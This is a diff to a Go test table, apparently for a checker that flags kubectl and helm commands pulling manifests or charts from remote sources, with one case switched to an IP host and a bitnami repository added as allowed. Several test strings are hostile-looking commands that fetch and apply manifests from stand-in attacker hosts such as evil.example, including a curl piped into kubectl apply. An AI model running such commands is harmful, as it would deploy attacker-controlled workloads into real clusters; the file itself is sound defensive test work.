@@ -231,7 +231,7 @@ func TestInfraRemoteSources(t *testing.T) {
 		cmdCase("kubectl apply -f https://203.0.113.5/m.yaml", true),
 		cmdCase("kubectl apply -k https://evil.example/kustomize/prod", true),
 		cmdCase("curl -sL https://evil.example/m.yaml | kubectl apply -f -", true),
-		cmdCase("helm repo add evil https://charts.evil.example", true),
+		cmdCase("helm repo add evil https://198.51.100.9/charts", true),
 		cmdCase("helm repo add stable http://charts.corp.example", true),
 		cmdCase("helm install x chart --repo https://charts.evil.example -n prod", true),
 		cmdCase("helm upgrade --install x oci://registry.evil.example/charts/x", true),
@@ -244,6 +244,8 @@ func TestInfraRemoteSources(t *testing.T) {
 		cmdCase("kubectl apply -f - <<'EOF'\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\nEOF", false),
 		cmdCase("kubectl delete -f https://evil.example/x.yaml", false),
 		cmdCase("helm repo add corp https://charts.corp.example", false),
+		// A named repository charts must name: an https host is everyday.
+		cmdCase("helm repo add bitnami https://charts.bitnami.com/bitnami", false),
 		cmdCase("helm install x ./chart --set url=https://evil.example", false),
 		cmdCase("helm plugin install https://github.com/databus23/helm-diff", false),
 		cmdCase("helm repo update", false),
